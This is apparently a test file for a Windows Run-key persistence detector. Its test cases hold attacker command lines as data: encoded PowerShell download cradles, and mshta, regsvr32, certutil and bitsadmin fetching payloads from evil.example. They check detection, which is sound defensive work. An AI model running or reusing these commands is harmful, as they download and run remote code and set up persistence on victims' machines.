import { describe, expect, it } from 'vitest';
import { analyzeEvents, detectCandidate } from '../../../shared/detect/engine';
import { decodeBase64Text, findEncodedCommand } from '../../../shared/detect/encoded-powershell';
import { normalizeValue } from '../../../shared/detect/normalize-value';
import { severityRank } from '../../../shared/model/finding';
import { psEncode, regSet, RUN_HKLM, RUN_HKU } from './helpers';

const ids = (value: string, o: Parameters<typeof regSet>[2] = {}, name = 'x') => {
  const c = detectCandidate(regSet(`${RUN_HKU}\\${name}`, value, o));
  return (c?.reasons ?? []).filter((r) => r.weight > 0).map((r) => r.id);
};

describe('indicators', () => {
  it.each([
    ['%TEMP%\\a.exe', 'path.user-writable'],
    ['C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe', 'path.user-writable'],
    ['%APPDATA%\\upd\\a.exe', 'path.user-writable'],
    ['C:\\ProgramData\\x\\a.exe', 'path.user-writable'],
    ['C:\\Users\\Public\\a.exe', 'path.user-writable'],
    ['C:\\Users\\bob\\Downloads\\a.exe', 'path.user-writable'],
    ['C:\\$Recycle.Bin\\S-1-5-21-1\\a.exe', 'path.user-writable'],
    ['C:\\Windows\\Temp\\a.exe', 'path.user-writable'],
    ['C:\\PerfLogs\\a.exe', 'path.user-writable'],
    ['\\\\evil.example@SSL\\DavWWWRoot\\a.exe', 'path.network'],
    ['\\\\10.0.0.5\\share\\a.exe', 'path.network'],
    ['C:\\Path\\a.exe', 'path.nonstandard-root'],
    ['powershell.exe -nop -w hidden -enc ' + psEncode('IEX (New-Object Net.WebClient).DownloadString("http://x/a")'), 'powershell.encoded'],
    ['powershell -ec ' + psEncode('whoami'), 'powershell.encoded'],
    ['powershell -EncodedCommand ' + psEncode('whoami'), 'powershell.encoded'],
    ['powershell -encodedcom ' + psEncode('whoami'), 'powershell.encoded'],
    ['powershell /e ' + psEncode('whoami'), 'powershell.encoded'],
    ['p^o^w^e^r^s^h^e^l^l -en^c ' + psEncode('whoami'), 'obfuscation.caret'],
    ['powershell -windowstyle hidden -file C:\\x.ps1', 'powershell.hidden-window'],
    ['powershell -ExecutionPolicy Bypass -File C:\\x.ps1', 'powershell.bypass'],
    ['powershell -c "IEX(gc C:\\x.txt)"', 'powershell.iex'],
    ['powershell -c "iwr http://x/a -o a.exe"', 'powershell.download'],
    ['powershell -c "[Convert]::FromBase64String($a)"', 'powershell.frombase64'],
    ['mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)', 'lolbin.mshta'],
    ['mshta http://evil.example/a.hta', 'lolbin.mshta'],
    ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'lolbin.rundll32'],
    ['rundll32.exe C:\\Users\\bob\\AppData\\Roaming\\x.dll,Start', 'lolbin.rundll32'],
    ['regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll', 'lolbin.regsvr32'],
    ['certutil -urlcache -split -f http://evil.example/a.exe a.exe', 'lolbin.download'],
    ['bitsadmin /transfer j http://evil.example/a.exe C:\\a.exe', 'lolbin.download'],
    ['msiexec /q /i http://evil.example/a.msi', 'lolbin.msiexec'],
    ['forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe', 'lolbin.proxy'],
    ['pcalua.exe -a C:\\x\\a.exe', 'lolbin.proxy'],
    ['cmstp.exe /ni /s C:\\x\\a.inf', 'lolbin.proxy'],
    ['conhost.exe --headless cmd /c calc', 'lolbin.proxy'],
    ['wscript.exe C:\\Users\\Public\\a.vbs', 'script-host'],
    ['C:\\Tools\\run.bat', 'ext.script'],
    ['C:\\Users\\bob\\invoice.pdf.exe', 'ext.double'],
    ['C:\\Windows\\a.exe http://evil.example/x', 'net.url'],
  ])('flags %s with %s', (value, id) => {
    expect(ids(value)).toContain(id);
  });

  it('matches IEX as a word, never inside iexplore.exe', () => {
    expect(ids('"C:\\Program Files\\Internet Explorer\\iexplore.exe" -nohome')).not.toContain('powershell.iex');
    expect(ids('powershell -c "iex (irm http://x)"')).toContain('powershell.iex');
  });

  it('decodes -EncodedCommand Base64 (UTF-16LE, else UTF-8) and scans the decoded text', () => {
    const script = 'IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a")';
    const c = detectCandidate(regSet(`${RUN_HKU}\\Updater`, `powershell.exe -w hidden -enc ${psEncode(script)}`));
    expect(c?.decodedPowerShell).toBe(script);
    const rs = c?.reasons.map((r) => r.id) ?? [];
    expect(rs).toEqual(expect.arrayContaining(['powershell.encoded', 'powershell.iex', 'powershell.download', 'net.url']));
    expect(decodeBase64Text(Buffer.from('echo hi', 'utf8').toString('base64'))).toEqual({ text: 'echo hi', encoding: 'utf-8' });
    expect(findEncodedCommand('powershell -e !!!notbase64!!!')).toBeUndefined();
  });

  it('flags an unusual writer and a writer running from a user folder', () => {
    expect(ids('C:\\Program Files\\A\\a.exe', { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' })).toContain('writer.unusual');
    expect(ids('C:\\Program Files\\A\\a.exe', { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' })).toContain('writer.unusual');
    expect(ids('C:\\Program Files\\A\\a.exe', { image: 'C:\\Users\\Public\\x.exe' })).toContain('writer.user-writable');
    expect(ids('C:\\Program Files\\A\\a.exe', { image: 'C:\\Program Files\\A\\setup.exe' })).toEqual(['location.run']);
  });

  it('flags a value name masquerading as known software that points elsewhere', () => {
    expect(ids('C:\\Users\\Public\\OneDrive.exe', {}, 'OneDrive')).toContain('name.masquerade');
    expect(ids('C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background', { image: 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe' }, 'OneDrive')).not.toContain('name.masquerade');
  });

  it('flags hidden (empty) value names in Run keys', () => {
    const ev = regSet(`${RUN_HKLM}\\`, '"c:\\windows\\tasks\\taskhost.exe"', { image: 'C:\\Users\\Public\\tools\\a.exe' });
    const c = detectCandidate(ev);
    expect(c?.valueName).toBe('');
    expect(c?.reasons.map((r) => r.id)).toContain('name.hidden');
  });

  it('flags Winlogon Userinit / Shell only when they differ from the defaults', () => {
    const ui = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit';
    const good = detectCandidate(regSet(ui, 'C:\\Windows\\system32\\userinit.exe,'));
    const bad = detectCandidate(regSet(ui, 'C:\\Windows\\system32\\userinit.exe, C:\\Users\\Public\\a.exe'));
    expect(good?.reasons.map((r) => r.id)).not.toContain('winlogon.non-default');
    expect(bad?.reasons.map((r) => r.id)).toContain('winlogon.non-default');
    expect(bad?.attack).toContain('T1547.004');
  });
});

describe('scoring and baseline regressions', () => {
  it('keeps a known-good NAME with a malicious value high or critical', () => {
    for (const name of ['OneDrive', 'Teams', 'SecurityHealth', 'Windows Defender', 'com.squirrel.Teams.Teams']) {
      const [f] = analyzeEvents([regSet(`${RUN_HKU}\\${name}`, `powershell.exe -nop -w hidden -enc ${psEncode('IEX (iwr http://x/a)')}`, { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' })]);
      expect(severityRank(f.severity), name).toBeGreaterThanOrEqual(severityRank('high'));
      expect(f.baseline.status).toBe('none');
    }
  });

  it('baselines known software only on name AND path AND writer, keeping the finding', () => {
    const good = regSet(`${RUN_HKU}\\OneDrive`, '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', { image: 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe' });
    const wrongWriter = regSet(`${RUN_HKU}\\OneDrive`, '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', { image: 'C:\\Windows\\system32\\reg.exe' });
    const [a] = analyzeEvents([good]);
    const [b] = analyzeEvents([wrongWriter]);
    expect(a.baseline.status).toBe('baselined');
    expect(a.severity).toBe('informational');
    expect(b.baseline.status).toBe('none');
    expect(severityRank(b.severity)).toBeGreaterThanOrEqual(severityRank('medium'));
  });

  it('baselines known software whose writer is known by file name only (a Defender export without folder paths)', () => {
    const cases: [string, string, string][] = [
      ['Spotify', 'C:\\Users\\jsmith\\AppData\\Roaming\\Spotify\\Spotify.exe', 'Spotify.exe'],
      ['Slack', 'C:\\Users\\jsmith\\AppData\\Local\\slack\\slack.exe --startup', 'slack.exe'],
      ['Dropbox', 'C:\\Users\\fm\\AppData\\Roaming\\Dropbox\\bin\\Dropbox.exe /systemstartup', 'Dropbox.exe'],
      ['Zoom', 'C:\\Program Files\\Zoom\\bin\\Zoom.exe', 'Zoom.exe'],
      ['OneDrive', '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', 'OneDrive.exe'],
    ];
    for (const [name, value, writer] of cases) {
      const [f] = analyzeEvents([regSet(`${RUN_HKU}\\${name}`, value, { image: writer })]);
      expect(f.baseline.status, name).toBe('baselined');
      expect(f.baseline.reason, name).toContain('known by file name only');
      // the name and the data still have to be the software's: the same writer name elsewhere is not
      const [g] = analyzeEvents([regSet(`${RUN_HKU}\\${name}`, `C:\\Users\\Public\\${writer}`, { image: writer })]);
      expect(g.baseline.status, name).toBe('none');
    }
    // a writer with a folder is matched on its folder, never on its name alone
    const [h] = analyzeEvents([regSet(`${RUN_HKU}\\Spotify`, cases[0][1], { image: 'C:\\Users\\Public\\Spotify.exe' })]);
    expect(h.baseline.status).toBe('none');
  });

  it('never silences strong indicators with a baseline match: baselined-but-suspicious', () => {
    const ev = regSet(`${RUN_HKU}\\x`, 'mshta http://evil.example/a.hta', { image: 'C:\\Windows\\system32\\reg.exe' });
    const baseline = { format: 'runkey-hunter-baseline' as const, version: 1 as const, entries: [{ id: 'e1', analyst: 'amy', reason: 'lab', date: '2024-01-01', enabled: true, scope: {}, match: { kind: 'host' as const, host: 'WS1' } }] };
    const [f] = analyzeEvents([ev], { baseline });
    expect(f.baseline.status).toBe('baselined-but-suspicious');
    expect(severityRank(f.severity)).toBeGreaterThanOrEqual(severityRank('high'));
    const [g] = analyzeEvents([regSet(`${RUN_HKLM}\\tool`, 'C:\\Program Files\\Tool\\tool.exe', { image: 'C:\\Windows\\system32\\reg.exe' })], { baseline });
    expect(g.baseline).toMatchObject({ status: 'baselined', entryId: 'e1', analyst: 'amy' });
    expect(g.severity).toBe('informational');
  });

  it('does not penalise or reward rarity with a single host, and explains it across hosts', () => {
    const [single] = analyzeEvents([regSet(`${RUN_HKLM}\\t`, 'C:\\Program Files\\T\\t.exe', { image: 'C:\\Program Files\\T\\setup.exe' })]);
    expect(single.reasons.some((r) => r.id.startsWith('rarity.'))).toBe(false);
    const evs = ['A', 'B', 'C', 'D'].map((h) => regSet(`${RUN_HKLM}\\t`, 'C:\\Program Files\\T\\t.exe', { host: h, image: 'C:\\Program Files\\T\\setup.exe' }));
    evs.push(regSet(`${RUN_HKLM}\\u`, 'C:\\Program Files\\U\\u.exe', { host: 'A', image: 'C:\\Program Files\\U\\setup.exe' }));
    const fs = analyzeEvents(evs, { options: { rarity: { maxHosts: 2, maxCount: 20, minHostsInCase: 3 } } });
    const rare = fs.find((f) => f.valueName === 'u');
    expect(rare?.reasons.find((r) => r.id === 'rarity.rare')?.explanation).toBe('Seen on 1 of 4 hosts (1 time(s)).');
    expect(fs.find((f) => f.valueName === 't')?.reasons.map((r) => r.id)).toContain('rarity.common');
  });
});

describe('value normalization for rarity', () => {
  it('replaces each GUID on its own (not greedily to the last brace)', () => {
    expect(normalizeValue('C:\\x\\{11111111-2222-3333-4444-555555555555}\\a.exe /id {aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee} keep')).toBe('c:\\x\\{xxxxxxxxxx}\\a.exe /id {xxxxxxxxxx} keep');
  });

  it('folds user paths case-insensitively, in %USERPROFILE% / %APPDATA% forms too', () => {
    const a = normalizeValue('C:\\Users\\Bob\\AppData\\Roaming\\x\\a.exe');
    expect(normalizeValue('c:\\users\\ALICE\\appdata\\roaming\\x\\a.exe')).toBe(a);
    expect(normalizeValue('%APPDATA%\\x\\a.exe')).toBe(a);
    expect(normalizeValue('%USERPROFILE%\\AppData\\Roaming\\x\\a.exe')).toBe(a);
  });

  it('folds versions and IPs but keeps ordinary hyphenated folder names', () => {
    expect(normalizeValue('C:\\Program Files\\App\\1.2.3.4\\app.exe')).toBe('c:\\program files\\app\\x.y.z.t\\app.exe');
    expect(normalizeValue('C:\\Program Files\\my-tool\\a.exe')).toBe('c:\\program files\\my-tool\\a.exe');
    expect(normalizeValue('a.exe --quiet -s 10.1.2.3')).toBe('a.exe -s x.y.z.t');
  });
});
